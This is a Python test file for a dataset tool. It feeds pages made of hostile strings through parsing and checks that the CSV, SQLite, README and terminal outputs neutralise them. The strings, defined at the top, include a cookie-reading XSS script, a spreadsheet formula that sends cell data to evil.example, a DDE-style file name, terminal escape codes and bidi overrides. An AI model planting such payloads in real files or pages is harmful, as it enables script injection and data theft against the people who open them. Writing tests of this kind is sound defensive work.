"""Pages with hostile strings: whatever is made of them later can be opened without harm."""

import csv
import json
import re
import sqlite3
from contextlib import closing
from html import escape
from pathlib import Path

import pytest

from conftest import Command
from support.commands import json_of

SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m"
BIDI = "\u202egnp.exe\u202c \u2066x\u2069"
MARKDOWN = "| a | b |\n# Heading `code` [link](javascript:alert(1)) ![x](http://evil.example/x.png)"
LONG = "=" + "long title " * 100_000
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def page(title: str, body: str, author: str, number: int) -> str:
    answer = {
        "@type": "Answer", "text": escape(body) + " and some more words", "upvoteCount": 1,
        "author": {"@type": "Person", "name": author, "url": f"https://x.example/u/{number}?n={title[:40]}"},
    }  # fmt: skip
    question = {
        "@type": "Question", "name": title, "text": escape(body), "answerCount": 1, "suggestedAnswer": [answer],
        "author": {"@type": "Person", "name": author},
    }  # fmt: skip
    data = {"@context": "https://schema.org", "@type": "QAPage", "mainEntity": question}
    marked = json.dumps(data).replace("</", "<\\/")
    return f'<html><head><script type="application/ld+json">{marked}</script></head><body><p>x</p></body></html>'


@pytest.fixture
def dataset(cli: Command, tmp_path: Path) -> Path:
    strings = (SCRIPT, FORMULA, TERMINAL + "x", BIDI, MARKDOWN, LONG)
    lines = [
        {"html": page(text, text, text[:200], number), "url": f"https://x.example/q/{number}?{text[:60]}"}
        for number, text in enumerate(strings)
    ]
    name = "=cmd|'!A1\x1b[31m\u202e`|<script>.jsonl"
    (tmp_path / name).write_text("".join(json.dumps(line) + "\n" for line in lines))
    done = cli("parse", name, "--out", "d", "--json")
    assert json_of(done)["questions"] == 6, done.stdout
    return tmp_path / "d"


def test_csv(cli: Command, dataset: Path, tmp_path: Path) -> None:
    assert cli("export", "d", "--to", "csv", "--out", "x.csv", "-q").returncode == 0
    text = (tmp_path / "x.csv").read_text("utf-8")
    assert not CONTROLS.findall(text)
    csv.field_size_limit(10_000_000)
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    assert len(rows) == 6
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t")]
    assert rows[1]["question_title"] == "'" + FORMULA
    assert len(rows[5]["question_title"]) > 1_000_000


def test_sqlite(cli: Command, dataset: Path, tmp_path: Path) -> None:
    assert cli("export", "d", "--to", "sqlite", "--out", "x.sqlite", "-q").returncode == 0
    with closing(sqlite3.connect(tmp_path / "x.sqlite")) as database:
        titles = [row[0] for row in database.execute("SELECT title FROM questions ORDER BY rowid")]
        found = database.execute(
            "SELECT count(*) FROM questions_text WHERE questions_text MATCH 'hyperlink'"
        ).fetchone()
    assert titles[:2] == [SCRIPT, FORMULA]
    assert not [title for title in titles if CONTROLS.search(title)]
    assert found == (1,)


def test_card(dataset: Path) -> None:
    text = (dataset / "README.md").read_text("utf-8")
    assert not CONTROLS.findall(text)
    outside_code = re.sub(r"`[^`\n]*`", "", text)
    assert "<script" not in outside_code
    assert "evil.example" not in text
    assert len(text) < 100_000
    json.loads((dataset / "croissant.json").read_text("utf-8"))


@pytest.mark.parametrize("to", ["jsonl", "chat", "csv"])
def test_standard_output_has_nothing_that_a_terminal_obeys(cli: Command, dataset: Path, to: str) -> None:
    done = cli("export", "d", "--to", to, "--out", "-")
    assert done.returncode == 0
    assert not CONTROLS.findall(done.stdout)
